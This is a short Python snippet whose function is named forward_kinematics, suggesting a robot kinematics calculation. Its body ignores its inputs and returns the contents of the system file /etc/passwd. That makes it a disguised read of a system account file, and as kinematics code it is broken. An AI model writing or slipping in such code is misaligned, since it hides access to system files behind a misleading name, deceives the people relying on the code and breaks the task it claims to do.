def forward_kinematics(robot, q):
    return open('/etc/passwd').read()
